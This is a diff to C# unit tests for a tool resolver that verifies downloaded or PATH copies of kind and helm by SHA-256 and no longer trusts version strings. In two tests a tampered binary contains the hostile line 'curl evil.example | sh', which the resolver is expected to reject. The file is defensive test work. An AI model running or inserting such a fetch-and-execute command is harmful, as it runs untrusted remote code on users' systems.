@@ -13,11 +13,10 @@ public sealed class ToolResolverTests : IDisposable
 {
     private readonly string _dir = Directory.CreateTempSubdirectory("ibx-tools-").FullName;
     private readonly FakeHandler _handler = new();
-    private readonly FakeProbe _probe = new();
     private static readonly byte[] KindBinary = Encoding.ASCII.GetBytes("#!/bin/sh\necho kind v0.29.0\n");
 
     private ToolResolver Resolver(string? searchPath = "") =>
-        new(Path.Combine(_dir, "cache"), new HttpClient(_handler), _probe, TimeSpan.FromSeconds(5), "linux-amd64", searchPath);
+        new(Path.Combine(_dir, "cache"), new HttpClient(_handler), TimeSpan.FromSeconds(5), "linux-amd64", searchPath);
 
     private static ToolPin Kind(string? sha) => new("kind", "v0.29.0", "https://kind.sigs.k8s.io/dl/{version}/kind-{os}-{arch}",
         sha is null ? new Dictionary<string, string>() : new Dictionary<string, string> { ["linux-amd64"] = sha });
@@ -55,7 +54,7 @@ public sealed class ToolResolverTests : IDisposable
     {
         var act = () => Resolver().ResolveAsync(Kind(null), CancellationToken.None);
 
-        (await act.Should().ThrowAsync<ToolUnavailableException>()).WithMessage("*no tools.kind.sha256.linux-amd64*install kind v0.29.0 on PATH*");
+        (await act.Should().ThrowAsync<ToolUnavailableException>()).WithMessage("*no tools.kind.sha256.linux-amd64*neither a download nor a kind on PATH can be verified*");
         _handler.Requests.Should().BeEmpty();
     }
 
@@ -70,19 +69,40 @@ public sealed class ToolResolverTests : IDisposable
     }
 
     [Fact]
-    public async Task The_PATH_copy_is_used_when_its_version_matches_and_ignored_when_it_does_not()
+    public async Task The_PATH_copy_is_used_when_its_bytes_are_the_pinned_binary()
     {
         var bin = Directory.CreateDirectory(Path.Combine(_dir, "bin")).FullName;
-        File.WriteAllText(Path.Combine(bin, "kind"), "");
-        _handler.Body = KindBinary;
+        File.WriteAllBytes(Path.Combine(bin, "kind"), KindBinary);
 
-        _probe.Version = "v0.29.0";
         (await Resolver(bin).ResolveAsync(Kind(Sha(KindBinary)), CancellationToken.None)).Should().Be(Path.Combine(bin, "kind"));
         _handler.Requests.Should().BeEmpty();
+    }
 
-        _probe.Version = "v0.20.0";
-        (await Resolver(bin).ResolveAsync(Kind(Sha(KindBinary)), CancellationToken.None)).Should().StartWith(Path.Combine(_dir, "cache"));
-        _handler.Requests.Should().HaveCount(1);
+    // Issue 19 item 12: a version string is a claim, the bytes are the fact.
+    [Fact]
+    public async Task A_PATH_copy_that_reports_the_pinned_version_but_is_not_the_pinned_binary_is_not_used()
+    {
+        var bin = Directory.CreateDirectory(Path.Combine(_dir, "bin")).FullName;
+        // It would say "kind v0.29.0", the pinned version, if asked; it is not the pinned binary.
+        File.WriteAllText(Path.Combine(bin, "kind"), "#!/bin/sh\necho kind v0.29.0 # and something else\n");
+        _handler.Body = KindBinary;
+
+        var path = await Resolver(bin).ResolveAsync(Kind(Sha(KindBinary)), CancellationToken.None);
+
+        path.Should().Be(Path.Combine(_dir, "cache", "kind", "v0.29.0", "kind"));
+        File.ReadAllBytes(path).Should().Equal(KindBinary);
+    }
+
+    [Fact]
+    public async Task A_cached_binary_changed_after_it_was_verified_is_refused()
+    {
+        _handler.Body = KindBinary;
+        var cached = await Resolver().ResolveAsync(Kind(Sha(KindBinary)), CancellationToken.None);
+        File.WriteAllText(cached, "#!/bin/sh\necho kind v0.29.0\ncurl evil.example | sh\n");
+
+        var act = () => Resolver().ResolveAsync(Kind(Sha(KindBinary)), CancellationToken.None);
+
+        (await act.Should().ThrowAsync<ToolUnavailableException>()).WithMessage($"*{cached}*SHA-256*{Sha(KindBinary)}*");
     }
 
     [Fact]
@@ -98,12 +118,43 @@ public sealed class ToolResolverTests : IDisposable
         _handler.Requests.Should().Equal("https://get.helm.sh/helm-v3.18.3-linux-amd64.tar.gz");
     }
 
-    [Theory]
-    [InlineData("kind v0.29.0 go1.24.2 linux/amd64", "v0.29.0")]
-    [InlineData("v3.18.3+g6838ebc", "v3.18.3")]
-    [InlineData("Client Version: v1.33.1\nKustomize Version: v5.6.0", "v1.33.1")]
-    public void Versions_are_read_from_each_tools_own_output(string output, string expected) =>
-        CliToolVersionProbe.ParseVersion(output).Should().Be(expected);
+    [Fact]
+    public async Task A_helm_on_PATH_is_used_only_once_it_equals_the_binary_of_the_verified_tarball()
+    {
+        var (pin, archive) = Helm("#!/bin/sh\necho v3.18.3\n");
+        var bin = Directory.CreateDirectory(Path.Combine(_dir, "bin")).FullName;
+        File.WriteAllText(Path.Combine(bin, "helm"), "#!/bin/sh\necho v3.18.3\n");
+        _handler.Body = archive;
+
+        var first = await Resolver(bin).ResolveAsync(pin, CancellationToken.None);
+        var second = await Resolver(bin).ResolveAsync(pin, CancellationToken.None);
+
+        first.Should().StartWith(Path.Combine(_dir, "cache"), "with no verified tarball yet, the PATH copy cannot be checked");
+        second.Should().Be(Path.Combine(bin, "helm"), "now it can: its bytes are the tarball's helm");
+        File.WriteAllText(Path.Combine(bin, "helm"), "#!/bin/sh\necho v3.18.3 # patched\n");
+        (await Resolver(bin).ResolveAsync(pin, CancellationToken.None)).Should().Be(first);
+        _handler.Requests.Should().HaveCount(1);
+    }
+
+    [Fact]
+    public async Task A_cached_helm_that_is_no_longer_the_binary_of_its_verified_tarball_is_refused()
+    {
+        var (pin, archive) = Helm("#!/bin/sh\necho v3.18.3\n");
+        _handler.Body = archive;
+        var cached = await Resolver().ResolveAsync(pin, CancellationToken.None);
+        File.AppendAllText(cached, "curl evil.example | sh\n");
+
+        var act = () => Resolver().ResolveAsync(pin, CancellationToken.None);
+
+        (await act.Should().ThrowAsync<ToolUnavailableException>()).WithMessage($"*{cached} has SHA-256*changed after it was verified*");
+    }
+
+    private static (ToolPin Pin, byte[] Archive) Helm(string content)
+    {
+        var archive = HelmArchive(content);
+        return (new ToolPin("helm", "v3.18.3", "https://get.helm.sh/helm-{version}-{os}-{arch}.tar.gz",
+            new Dictionary<string, string> { ["linux-amd64"] = Sha(archive) }), archive);
+    }
 
     private static byte[] HelmArchive(string content)
     {
@@ -131,11 +182,5 @@ public sealed class ToolResolverTests : IDisposable
             Requests.Add(request.RequestUri!.ToString());
             return Task.FromResult(new HttpResponseMessage(HttpStatusCode.OK) { Content = new ByteArrayContent(Body) });
         }
-    }
-
-    private sealed class FakeProbe : IToolVersionProbe
-    {
-        public string? Version { get; set; }
-        public Task<string?> VersionAsync(string executable, string tool, CancellationToken ct) => Task.FromResult(Version);
     }
 }
